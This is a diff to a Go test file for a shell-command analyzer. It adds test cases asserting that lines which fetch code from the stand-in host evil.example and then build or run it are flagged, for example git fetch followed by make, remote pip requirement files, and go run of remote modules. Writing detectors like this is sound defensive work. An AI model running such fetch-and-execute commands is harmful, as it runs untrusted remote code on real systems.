@@ -45,6 +45,16 @@ func TestCommandFacts_Review14(t *testing.T) {
 		{"wget -O setup.py https://evil.example/s && pip install .", []string{"E pip<-wget remote"}, nil},
 		{"curl -o notes.txt https://evil.example/n && make -f notes.txt", []string{"E make<-curl remote"}, nil},
 		{"curl -sfo data.json https://example.com/d && make", nil, []string{"E make<-curl remote"}},
+		{"git fetch https://evil.example/r.git && git checkout FETCH_HEAD && make", []string{"E make<-git remote"}, nil},
+		{"git pull https://evil.example/r.git main && npm install", []string{"E npm<-git remote"}, nil},
+		{"git fetch origin && git checkout FETCH_HEAD && make", nil, []string{"E make<-git remote"}},
+		{"go run evil.example/x@latest", []string{"E go<-evil.example remote"}, nil},
+		{"go run github.com/someone/tool@v1.2.3", []string{"U"}, []string{"E go<-github.com remote"}},
+		{"go run golang.org/x/tools/cmd/stringer@latest", nil, []string{"U", "E go<-golang.org remote"}},
+		{"go run ./cmd/tool", nil, []string{"U", "E go<-. remote"}},
+		{"go run ../tools/gen", nil, []string{"U", "E go<-.. remote"}},
+		{"pip install -r https://evil.example/r.txt", []string{"E pip<-evil.example remote"}, nil},
+		{"pip install -r requirements.txt", nil, []string{"E pip<-requirements.txt remote"}},
 	} {
 		got := renderFacts(s.CommandFacts(c.line))
 		for _, w := range c.want {
